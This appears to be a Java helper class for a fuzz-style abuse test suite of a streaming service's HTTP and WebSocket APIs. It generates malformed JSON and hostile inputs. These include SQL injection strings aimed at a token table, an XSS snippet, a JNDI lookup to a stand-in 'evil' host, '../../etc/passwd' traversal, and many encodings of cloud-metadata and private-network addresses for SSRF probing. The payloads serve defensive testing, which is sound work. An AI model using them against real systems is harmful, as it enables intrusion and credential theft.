package com.emogg.abuse;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/**
 * Generated inputs for the abuse suite: random variations around a corpus of known-nasty values
 * (broken and oversized JSON, wrong types, Unicode and control characters, SQL and script
 * injection, absurd dates and numbers, malformed ids and headers). Seeded, so a failing case can
 * be replayed with {@code -Dabuse.seed}.
 */
final class NastyInputs {

    static final List<String> STRINGS = List.of(
            "", " ", "\u0000", "\u0000\u0001\u0002\u001f\u007f", "\n\r\t", "'; drop table sessions; --", "\" or 1=1 --",
            "1' union select token_hash from api_tokens --", "<script>alert(1)</script>", "${jndi:ldap://evil/x}", "%s%s%s%n",
            "../../etc/passwd", "\uD83D\uDE00\uD83D\uDE00", "\uFEFF", "\u202Eevil", "\uD800", "a".repeat(300), "null", "true",
            "-1", "9".repeat(40), "1e999", "NaN", "0x10", "\\u0000", "{{7*7}}", "rtsp://", "rtsp://u:p@", "RTSP://x/../..",
            "65ea1530bb50af72b6e3dc1e", "65EA1530BB50AF72B6E3DC1E", "2024-13-45T99:99:99Z", "-292278994-08-17T07:12:55.807Z");

    static final List<String> JSON_VALUES = List.of(
            "null", "true", "false", "0", "-1", "1.5e308", "1e400", "\"\"", "\"x\"", "[]", "[1,2]", "{}", "{\"a\":{}}",
            "\"" + "\\u0000".repeat(10) + "\"", "\"\\ud800\"", "123456789012345678901234567890");

    /**
     * Hosts of stream URIs a scanner tries: the cloud's metadata service, the cluster's private
     * ranges, the machine itself, as literals in every spelling resolvers accept (issue 17). Loopback
     * is not among them: the tests' settings allow it, for their loopback streams.
     */
    static final List<String> INTERNAL_HOSTS = List.of(
            "169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]",
            "[64:ff9b::a9fe:a9fe]", "[2002:a9fe:a9fe::]", "[::169.254.169.254]", "[fe80::a9fe:a9fe]", "[fe80::1%25eth0]",
            "10.0.0.1", "10.96.0.1", "167772161", "0xa000001", "012.0.0.1", "172.16.0.1", "172.31.255.254", "192.168.0.1",
            "3232235521", "100.64.0.1", "100.100.100.200", "0.0.0.0", "0", "0x0", "[::]", "[::ffff:0.0.0.0]", "[fd00::1]",
            "[fd12:3456:789a::1]", "[fc00::]", "[fec0::1]", "224.0.0.1", "[ff02::1]", "255.255.255.255", "4294967295",
            "240.0.0.1", "192.0.0.8", "198.18.0.1", "192.0.2.1", "[2001:db8::1]", "[2001::1]");

    private final Random random;

    NastyInputs(long seed) {
        this.random = new Random(seed);
    }

    String string() {
        String base = pick(STRINGS);
        return switch (random.nextInt(4)) {
            case 0 -> base;
            case 1 -> base + randomText(random.nextInt(20));
            case 2 -> randomText(random.nextInt(300));
            default -> base.repeat(1 + random.nextInt(3));
        };
    }

    String jsonValue() {
        return switch (random.nextInt(3)) {
            case 0 -> pick(JSON_VALUES);
            case 1 -> quote(string());
            default -> "{\"nested\":" + pick(JSON_VALUES) + "}";
        };
    }

    /** A request body: mostly JSON-shaped, often broken on purpose. */
    String body(List<String> fields) {
        StringBuilder json = new StringBuilder("{");
        int count = random.nextInt(fields.size() + 3);
        for (int i = 0; i < count; i++) {
            if (i > 0) {
                json.append(',');
            }
            String field = random.nextInt(4) == 0 ? string() : pick(fields);
            json.append(quote(field)).append(':').append(jsonValue());
        }
        json.append('}');
        String body = json.toString();
        return switch (random.nextInt(8)) {
            case 0 -> body.substring(0, random.nextInt(body.length() + 1));           // truncated
            case 1 -> "[" + body + "]";                                              // not an object
            case 2 -> "{".repeat(1 + random.nextInt(3000));                          // deeply nested
            case 3 -> randomText(random.nextInt(200));                               // not JSON at all
            case 4 -> body.replace(":", "");                                         // broken syntax
            default -> body;
        };
    }

    /** A stream URI on an internal address, with credentials, an RTSP/RTMP scheme and a port scanners like. */
    String internalStreamUri(String secret) {
        String scheme = pick(List.of("rtsp", "rtmp", "rtmps", "RTSP"));
        String port = pick(List.of("", ":22", ":80", ":554", ":2379", ":5432", ":6443", ":9092", ":10250", ":65535"));
        return scheme + "://admin:" + secret + "@" + pick(INTERNAL_HOSTS) + port + pick(List.of("/", "/latest/meta-data/", "/live", ""));
    }

    /**
     * A message for the WebSocket API ({@code /ws/v1}): broken or non-object JSON, wrong types in
     * every field, unknown and absurd paths, subscriptions to someone else's session, huge and
     * deeply nested messages, and messages carrying a token or a stream URI (which must never be
     * logged). {@code token} is the connection's user's, {@code own} a session of theirs,
     * {@code others} another user's.
     */
    String wsMessage(String token, String own, String others, String streamUri) {
        String subscribe = "{\"path\":\"channels:subscribe\",\"body\":{\"channel\":\"session_worker_state\",\"key\":";
        return switch (random.nextInt(24)) {
            case 0 -> body(List.of("path", "id", "body"));
            case 1 -> randomText(random.nextInt(300));
            case 2 -> pick(List.of("", " ", "null", "42", "\"ping\"", "[]", "[{\"path\":\"ping\"}]", "{}", "{\"path\":null}",
                    "{\"path\":42}", "{\"path\":[\"ping\"]}", "{\"path\":{\"x\":1}}", "{\"path\":true}", "{\"path\":\"ping\""));
            case 3 -> "{\"path\":" + quote(string()) + "}";
            case 4 -> "{\"id\":" + jsonValue() + ",\"path\":" + quote(pick(List.of("ping", "auth:token", "channels:subscribe",
                    "channels:unsubscribe", "channels:list", "admin", "../ping", "PING", "ping ", "auth:token\u0000"))) + ",\"body\":"
                    + jsonValue() + "}";
            case 5 -> "{\"path\":\"auth:token\",\"body\":{\"token\":" + pick(List.of(jsonValue(), quote(authorization(token)),
                    quote("Bearer " + token), quote(token + token), quote("x".repeat(600)), quote(""))) + "}}";
            case 6 -> "{\"path\":\"auth:token\",\"body\":" + jsonValue() + "}";
            case 7 -> subscribe + quote(others) + "}}";
            case 8 -> subscribe + quote(own) + "}}";
            case 9 -> subscribe + pick(List.of(jsonValue(), quote(id()), quote(streamUri), quote(token))) + "}}";
            case 10 -> "{\"path\":\"channels:subscribe\",\"body\":{\"channel\":" + jsonValue() + ",\"key\":" + quote(own) + "}}";
            case 11 -> "{\"path\":\"channels:subscribe\",\"body\":" + pick(List.of("[]", "\"x\"", "null", "{}", "1")) + "}";
            case 12 -> "{\"path\":\"channels:unsubscribe\",\"body\":{\"subscriptionId\":" + pick(List.of(jsonValue(), quote(id()),
                    quote(others))) + "}}";
            case 13 -> "{\"path\":\"ping\",\"pad\":\"" + "x".repeat(1 << (10 + random.nextInt(12))) + "\"}";
            case 14 -> "{\"path\":" + quote("p".repeat(1 << (8 + random.nextInt(10)))) + "}";
            case 15 -> "{\"path\":\"ping\",\"id\":" + "[".repeat(1 + random.nextInt(5000)) + "}";
            case 16 -> "{\"path\":\"ping\",\"path\":\"auth:token\",\"body\":{\"token\":" + quote(token) + "}}";
            case 17 -> "{\"path\":\"ping\",\"id\":" + pick(List.of("1e999999999", "-0", "123456789012345678901234567890",
                    "\"" + "\\u0000".repeat(50) + "\"", "{\"a\":[1,{\"b\":null}]}")) + "}";
            case 18 -> "{\"path\":\"auth:token\",\"body\":{\"token\":" + quote(streamUri) + "}}";
            case 19 -> "{\"path\":" + quote(streamUri) + ",\"body\":{\"streamUri\":" + quote(streamUri) + "}}";
            case 20 -> "{\"path\":\"ping\"}";
            case 21 -> "{\"path\":\"auth:token\",\"body\":{\"token\":" + quote(token) + "}}";
            case 22 -> "{\"path\":\"ping\"," + "\"k\":1,".repeat(random.nextInt(20000)) + "\"end\":1}";
            default -> "\uFEFF{\"path\":\"ping\"}";
        };
    }

    String queryValue() {
        return random.nextBoolean() ? string() : Long.toString(random.nextLong());
    }

    String id() {
        return switch (random.nextInt(5)) {
            case 0 -> string();
            case 1 -> Long.toHexString(random.nextLong());
            case 2 -> "0".repeat(random.nextInt(30));
            case 3 -> "zzzzzzzzzzzzzzzzzzzzzzzz";
            default -> String.format("%024x", random.nextLong() & Long.MAX_VALUE);
        };
    }

    String authorization(String validToken) {
        return switch (random.nextInt(6)) {
            case 0 -> "Bearer " + string();
            case 1 -> "Basic " + string();
            case 2 -> validToken.substring(0, random.nextInt(validToken.length()));
            case 3 -> "Bearer " + validToken + string();
            case 4 -> "bearer\t" + validToken;
            default -> string();
        };
    }

    String contentType() {
        return pick(List.of("text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
                "application/json; charset=ebcdic", "application/jso", "*/*", "application/json;;;"));
    }

    boolean chance(int oneIn) {
        return random.nextInt(oneIn) == 0;
    }

    <T> T pick(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    private String randomText(int length) {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < length; i++) {
            int kind = random.nextInt(10);
            text.appendCodePoint(kind < 6 ? 32 + random.nextInt(95) : kind < 8 ? random.nextInt(32) : 0x80 + random.nextInt(0x2FF00));
        }
        return text.toString();
    }

    static String quote(String text) {
        StringBuilder quoted = new StringBuilder("\"");
        for (char c : text.toCharArray()) {
            if (c == '"' || c == '\\') {
                quoted.append('\\').append(c);
            } else if (c < 0x20) {
                quoted.append(String.format("\\u%04x", (int) c));
            } else {
                quoted.append(c);
            }
        }
        return quoted.append('"').toString();
    }

    static List<String> list(String... values) {
        return new ArrayList<>(List.of(values));
    }
}
